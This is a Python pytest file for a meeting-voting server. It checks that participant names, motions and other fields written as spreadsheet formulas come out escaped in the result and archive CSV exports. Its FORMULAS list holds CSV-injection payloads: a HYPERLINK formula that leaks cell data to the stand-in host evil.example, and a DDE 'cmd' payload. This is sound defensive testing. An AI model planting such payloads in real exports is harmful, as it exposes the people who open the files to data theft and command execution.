"""Finding 9 of issue 23: names that are formulas stay text in every CSV the server writes.

A participant named ``=HYPERLINK(...)`` (and a motion, a position, an excuse written so)
used to be written verbatim into ``result.csv`` and the archive's CSVs, where a spreadsheet
runs it. Every CSV writer of server/ goes through ``services/spreadsheet.py``.
"""
from __future__ import annotations

import ast
import csv
import io
import uuid
import zipfile

import pytest
import requests

from server.extensions import db
from server.models import AttendanceStatus, Device, MeetingStatus, PollKind, Role
from server.paths import ROOT
from server.services import spreadsheet
from server.services.actors import Actor
from server.services.archive.demo_record import seed_sealed_meeting
from server.services.tokens import new_token, token_digest
from server.services.voting import polls as voting
from tests import factories
from tests.realtime.clients import login
from tests.realtime.conftest import live  # noqa: F401 (fixture)

pytestmark = pytest.mark.live

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Xem")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def _no_formula(cells: list[str]) -> None:
    assert [c for c in cells if c.startswith(DANGEROUS)] == []
    for formula in FORMULAS:  # still there, as text
        assert "'" + formula in cells, formula


def test_result_csv_never_carries_a_formula(live):
    staff_user = factories.make_user(Role.SECRETARY)
    meeting = factories.make_meeting(status=MeetingStatus.PUBLISHED)
    tokens = []
    for name in FORMULAS:
        person = factories.make_participant(meeting, full_name=name,
                                            attendance=AttendanceStatus.PRESENT)
        token = new_token()
        db.session.add(Device(meeting_id=meeting.id, participant_id=person.id,
                              token_sha256=token_digest(token)))
        tokens.append(token)
    db.session.commit()
    staff = Actor.of_user(staff_user)
    poll = voting.create_poll(staff, meeting.id, {"motion": FORMULAS[0], "kind": PollKind.NAMED})
    db.session.commit()
    voting.open_poll(staff, poll.id)
    db.session.commit()
    for token in tokens:  # each tablet votes on the live server
        answer = requests.post(f"{live.url}/api/v1/polls/{poll.id}/ballots", timeout=30,
                               json={"ballot_id": str(uuid.uuid4()), "choices": ["yes"]},
                               headers={"Authorization": f"Bearer {token}"})
        assert answer.status_code in (200, 201), answer.text
    http = login(live.url, staff_user)
    assert http.post(f"{live.url}/api/v1/polls/{poll.id}/close", timeout=30).ok
    answer = http.get(f"{live.url}/api/v1/polls/{poll.id}/result.csv", timeout=30)
    assert answer.status_code == 200, answer.text
    _no_formula(_cells(answer.content.decode("utf-8-sig")))


def test_archive_csvs_never_carry_a_formula(live):
    meeting = seed_sealed_meeting()
    people = sorted(meeting.participants, key=lambda p: p.id)
    for person, name in zip(people, FORMULAS):
        person.full_name, person.position, person.excuse = name, name, name
    db.session.commit()
    archivist = factories.make_user(Role.SECRETARY)
    answer = login(live.url, archivist).get(
        f"{live.url}/api/v1/archive/meetings/{meeting.id}/package", timeout=120)
    assert answer.status_code == 200, answer.text[:500]
    with zipfile.ZipFile(io.BytesIO(answer.content)) as package:
        names = [n for n in package.namelist() if n.endswith(".csv")]
        assert {n.rsplit("/", 1)[-1] for n in names} >= {"attendance.csv", "ballots.csv"}
        cells = [c for n in names for c in _cells(package.read(n).decode("utf-8"))]
    _no_formula(cells)


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+33 6", "'+33 6"), ("-x", "'-x"), ("@me", "'@me"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Nguyễn = Văn", "Nguyễn = Văn"), ("", ""),
    (-3, -3), (2.5, 2.5), (None, None),
])
def test_the_cell_rule(value, written):
    assert spreadsheet.cell(value) == written


def test_every_csv_writer_of_the_server_is_the_shared_one():
    """``csv.writer``/``csv.DictWriter`` appear in services/spreadsheet.py only."""
    offenders = []
    for path in (ROOT / "server").rglob("*.py"):
        if path == ROOT / "server" / "services" / "spreadsheet.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                    and isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == []
